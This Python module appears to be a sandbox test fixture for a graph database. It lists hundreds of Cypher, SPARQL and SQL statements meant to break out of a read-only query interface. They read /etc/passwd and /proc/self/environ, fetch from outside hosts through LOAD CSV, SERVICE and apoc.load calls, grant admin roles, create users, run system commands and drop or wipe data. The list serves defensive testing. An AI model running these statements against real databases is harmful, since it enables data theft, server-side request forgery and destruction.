"""Statements that try to leave a room: to read, write, load, export, reach, or settle in.

``{file}`` is a canary's path, ``{new}`` one that must not come to be, ``{dir}`` their folder,
``{url}`` an address that nobody may ask, ``{host}`` and ``{port}`` its parts. SQL is what the
embedded engine speaks beside Cypher: no door of ours leads to it, and it must not matter.
"""

from __future__ import annotations

_LOADS = (
    "file://{file}", "file:{file}", "{file}", "file:///{dir}/../{dir}/secret.csv",
    "../../../../../../../..{file}", "file://localhost{file}", "FILE://{file}",
    "{url}", "http://{host}:{port}/x.csv?leak=1", "https://{host}:{port}/x.csv",
    "ftp://{host}:{port}/x.csv", "jar:file:{file}!/a", "jar:{url}!/a.csv",
    "http://[::ffff:127.0.0.1]:{port}/x", "http://2130706433:{port}/x", "http://localhost:{port}/x",
    "http://user:pass@{host}:{port}/x", "file:///etc/passwd", "file:///proc/self/environ",
    "/proc/self/mem", "classpath:logging.properties", "netdoc:{file}", "mailto:{host}",
)  # fmt: skip

_CYPHER = (
    "LOAD CSV FROM $url AS r RETURN r",
    "LOAD CSV WITH HEADERS FROM 'file://{file}' AS r FIELDTERMINATOR ';' RETURN r",
    "UNWIND ['{file}', '{url}'] AS u CALL {{ WITH u LOAD CSV FROM u AS r RETURN r }} RETURN r",
    "RETURN 1 AS r UNION LOAD CSV FROM 'file://{file}' AS r RETURN r",
    "MATCH (n) WITH n LIMIT 1 LOAD CSV FROM '{url}/' + n.id AS r RETURN r",
    "EXPLAIN LOAD CSV FROM '{url}' AS r RETURN r",
    "PROFILE LOAD CSV FROM 'file://{file}' AS r RETURN r",
    "CREATE (n:Leak {{id: '{new}'}}) RETURN n",
    "MERGE (n:Entity {{id: 'planted'}}) RETURN n",
    "MATCH (n) SET n.caption = 'changed' RETURN count(n)",
    "MATCH (n) REMOVE n.caption RETURN count(n)",
    "MATCH (n) DETACH DELETE n",
    "MATCH ()-[r]->() DELETE r",
    "FOREACH (i IN range(1, 9) | CREATE (:Leak {{i: i}}))",
    "MATCH (n) CALL {{ WITH n SET n.x = 1 }} IN TRANSACTIONS RETURN count(*)",
    "CREATE CONSTRAINT c FOR (n:Leak) REQUIRE n.id IS UNIQUE",
    "CREATE INDEX leak FOR (n:Entity) ON (n.caption)",
    "CREATE FULLTEXT INDEX leak FOR (n:Entity) ON EACH [n.caption]",
    "DROP INDEX entity_id", "DROP DATABASE lacak", "CREATE DATABASE other",
    "START DATABASE lacak", "STOP DATABASE lacak", "USE system RETURN 1", "SHOW DATABASES",
    "SHOW USERS", "SHOW PRIVILEGES", "SHOW SETTINGS", "CREATE USER eve SET PASSWORD 'x'",
    "ALTER USER reader SET PASSWORD 'x'", "GRANT ROLE admin TO reader",
    "CALL dbms.listConfig() YIELD name, value RETURN name, value",
    "CALL dbms.setConfigValue('server.directories.import', '/')",
    "CALL dbms.security.createUser('eve', 'x', false)",
    "CALL dbms.killConnections([])", "CALL dbms.procedures() YIELD name RETURN name",
    "CALL apoc.load.json('{url}') YIELD value RETURN value",
    "CALL apoc.load.jsonParams('{url}', {{}}, '') YIELD value RETURN value",
    "CALL apoc.load.csv('file://{file}') YIELD list RETURN list",
    "CALL apoc.load.xml('{url}') YIELD value RETURN value",
    "CALL apoc.load.jdbc('jdbc:h2:{new}', 'x') YIELD row RETURN row",
    "CALL apoc.export.csv.all('{new}', {{}})", "CALL apoc.export.json.all('{new}', {{}})",
    "CALL apoc.export.cypher.all('{new}', {{}})", "CALL apoc.export.graphml.all('{new}', {{}})",
    "CALL apoc.import.csv([], [], {{}})", "CALL apoc.import.graphml('{url}', {{}})",
    "CALL apoc.cypher.runFile('{file}')", "CALL apoc.cypher.doIt('CREATE (n)', {{}})",
    "CALL apoc.cypher.run('LOAD CSV FROM \"{url}\" AS r RETURN r', {{}}) YIELD value RETURN value",
    "CALL apoc.systemdb.export.metadata()", "CALL apoc.config.map() YIELD value RETURN value",
    "CALL apoc.log.info('x')", "CALL apoc.util.sleep(1)", "CALL apoc.trigger.add('t', 'x', {{}})",
    "CALL apoc.custom.declareFunction('f() :: INT', 'RETURN 1')",
    "CALL gds.graph.export.csv('g', {{exportName: '{new}'}})",
    "CALL gds.model.store('m')", "CALL n10s.rdf.import.fetch('{url}', 'Turtle')",
    "CALL semantics.importRDF('{url}', 'Turtle')", "CALL load.csv('file://{file}')",
    "CALL sql('SELECT FROM schema:database')", "CALL sql('EXPORT DATABASE file://{new}')",
    "CALL db.create.setNodeProperty(null, 'x', 1)", "CALL db.createLabel('Leak')",
    "CALL db.migrateLegacyTemporals()",
    "CALL merge.node(['Leak'], {{id: 'x'}}) YIELD node RETURN node",
    "MATCH (n) WITH collect(n)[..2] AS l CALL refactor.mergeNodes(l) YIELD node RETURN node",
    "MATCH (n) WITH collect(n)[..2] AS l CALL refactor.cloneNodesWithRelationships(l) RETURN 1",
    "CALL do.when(true, 'CREATE (n:Leak)', '', {{}}) YIELD value RETURN value",
    "CALL meta.stats() YIELD value SET value.x = 1 RETURN value",
    "RETURN apoc.util.md5(['{file}'])", "RETURN apoc.text.join(['{file}'], '')",
    "RETURN load('{url}')", "RETURN file('{file}')", "RETURN readFile('{file}')",
    "RETURN java.lang.System.getenv('PATH')", "RETURN `java.lang.Runtime`.getRuntime()",
    "RETURN js('java.lang.System.exit(1)')", "RETURN eval('1')", "RETURN system('id')",
    "RETURN sql('SELECT FROM schema:database')", "RETURN custom.f()",
    "RETURN randomUUID() + env('HOME')",
    "TERMINATE TRANSACTIONS 'x'", "RETURN 1; CREATE (n:Leak)", "BEGIN CREATE (n:Leak) COMMIT",
    "EXPORT DATABASE file://{new}", "IMPORT DATABASE {url}", "BACKUP DATABASE file://{new}",
)  # fmt: skip

_SPARQL = (
    "SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE SILENT <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ ?s ?p ?o . SERVICE <{url}> {{ ?s ?q ?r }} }}",
    "SELECT * {{ VALUES ?g {{ <{url}> }} SERVICE ?g {{ ?s ?p ?o }} }}",
    "SELECT * {{ BIND(IRI('http://{host}:{port}/x') AS ?g) SERVICE ?g {{ ?s ?p ?o }} }}",
    "SELECT * {{ OPTIONAL {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "SELECT * {{ {{ SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }} }}",
    "SELECT * {{ {{ ?s ?p ?o }} UNION {{ SERVICE <{url}> {{ ?a ?b ?c }} }} }}",
    "SELECT * {{ ?s ?p ?o FILTER EXISTS {{ SERVICE <{url}> {{ ?s ?q ?r }} }} }}",
    "SELECT * {{ ?s ?p ?o MINUS {{ SERVICE <{url}> {{ ?s ?q ?r }} }} }}",
    "ASK {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "DESCRIBE ?s {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE <https://{host}:{port}/sparql> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE <http://localhost:{port}/sparql> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE <http://[::1]:{port}/sparql> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE <http://user:pass@{host}:{port}/> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE <file://{file}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE <ftp://{host}:{port}/> {{ ?s ?p ?o }} }}",
    "# comment\nSELECT * {{ SER\\u0056ICE <{url}> {{ ?s ?p ?o }} }}",
    "PREFIX x: <{url}/> SELECT * {{ SERVICE x:y {{ ?s ?p ?o }} }}",
    "BASE <{url}/> SELECT * {{ SERVICE <y> {{ ?s ?p ?o }} }}",
    "SELECT * FROM <{url}> {{ ?s ?p ?o }}", "SELECT * FROM <file://{rdf}> {{ ?s ?p ?o }}",
    "SELECT * FROM NAMED <{url}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "SELECT * FROM NAMED <file://{rdf}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "ASK FROM <{url}> {{ ?s ?p ?o }}", "DESCRIBE <{url}> FROM <{url}>",
    "CONSTRUCT {{ ?s ?p ?o }} FROM <file://{rdf}> WHERE {{ ?s ?p ?o }}",
    "SELECT * FROM <file:{rdf}> {{ ?s ?p ?o }}", "SELECT * FROM <{rdf}> {{ ?s ?p ?o }}",
    "SELECT * FROM <http://{host}:{port}/a> FROM <http://{host}:{port}/b> {{ ?s ?p ?o }}",
    "SELECT * {{ GRAPH <file://{rdf}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ GRAPH <{url}> {{ ?s ?p ?o }} }}",
    "LOAD <{url}>", "LOAD SILENT <{url}>", "LOAD <file://{rdf}>", "LOAD <{url}> INTO GRAPH <x:g>",
    "LOAD <https://{host}:{port}/x.ttl>", "LOAD <http://localhost:{port}/x.ttl>",
    "LOAD <file:{rdf}> INTO GRAPH <x:g>",
    "INSERT DATA {{ <x:a> <x:b> <x:c> }}", "DELETE DATA {{ <x:a> <x:b> <x:c> }}",
    "DELETE WHERE {{ ?s ?p ?o }}", "INSERT {{ ?s <x:p> ?o }} WHERE {{ ?s ?p ?o }}",
    "DELETE {{ ?s ?p ?o }} INSERT {{ ?s ?p 'x' }} WHERE {{ ?s ?p ?o }}",
    "WITH <x:g> DELETE {{ ?s ?p ?o }} WHERE {{ ?s ?p ?o }}",
    "CLEAR ALL", "CLEAR DEFAULT", "CLEAR GRAPH <x:g>", "DROP ALL", "DROP SILENT GRAPH <x:g>",
    "CREATE GRAPH <x:g>", "COPY DEFAULT TO <x:g>", "MOVE DEFAULT TO <x:g>", "ADD DEFAULT TO <x:g>",
    "INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "INSERT {{ ?s ?p ?o }} USING <{url}> WHERE {{ ?s ?p ?o }}",
    "SELECT (<{url}#f>(1) AS ?x) {{}}", "SELECT (<java:java.lang.System>('x') AS ?x) {{}}",
    "SELECT (<http://www.w3.org/2005/xpath-functions#doc>('file://{file}') AS ?x) {{}}",
    "SELECT (<http://jena.apache.org/ARQ/function#bnode>('x') AS ?x) {{}}",
    "SELECT * {{ ?x <java:java.lang.Runtime> ?y }}",
    "SELECT * {{ ?s <http://www.openlinksw.com/schemas/bif#file_to_string> '{file}' }}",
    "SELECT * {{ BIND(<bif:file_to_string>('{file}') AS ?x) }}",
)  # fmt: skip

_SQL = (
    "EXPORT DATABASE file://{new}", "EXPORT DATABASE file://{new}.jsonl.tgz WITH overwrite = true",
    "BACKUP DATABASE file://{new}.zip", "BACKUP DATABASE", "IMPORT DATABASE {url}",
    "IMPORT DATABASE file://{file}", "IMPORT DATABASE http://localhost:{port}/x.jsonl.tgz",
    "IMPORT DATABASE https://{host}:{port}/x.tgz", "IMPORT DATABASE WITH documents='file://{file}'",
    "IMPORT DATABASE WITH vertices='{url}', vertexType='Leak'",
    "ALTER DATABASE `arcadedb.server.backupDirectory` '{dir}'",
    "ALTER DATABASE `arcadedb.command.timeout` 0", "ALTER DATABASE `arcadedb.txWAL` false",
    "DEFINE FUNCTION x.y 'return 1' LANGUAGE js", "DEFINE FUNCTION x.z 'SELECT 1' LANGUAGE sql",
    "DEFINE FUNCTION x.j 'java.lang.System.exit(1)' PARAMETERS [a] LANGUAGE java",
    "CREATE TRIGGER t AFTER CREATE ON TYPE Entity EXECUTE JAVASCRIPT 'x'",
    "CREATE TRIGGER u BEFORE CREATE ON TYPE Entity EXECUTE SQL 'SELECT 1'",
    "CREATE DOCUMENT TYPE Leak", "CREATE VERTEX TYPE Leak", "CREATE BUCKET leak",
    "INSERT INTO Entity SET id = 'planted'", "UPDATE Entity SET caption = 'changed'",
    "DELETE FROM Entity", "TRUNCATE TYPE Entity UNSAFE", "DROP TYPE Entity UNSAFE",
    "REBUILD INDEX `Entity[id]`", "CHECK DATABASE FIX", "ALIGN DATABASE",
    "SELECT FROM schema:database", "SET GLOBAL x = 1", "LOCK TYPE Entity",
)  # fmt: skip


def cypher() -> list[str]:
    """Return the Cypher statements, with placeholders."""
    return [f"LOAD CSV FROM '{url}' AS r RETURN r" for url in _LOADS] + list(_CYPHER)


def sparql() -> list[str]:
    """Return the SPARQL statements, with placeholders."""
    return list(_SPARQL)


def sql() -> list[str]:
    """Return the SQL statements, with placeholders."""
    return list(_SQL)
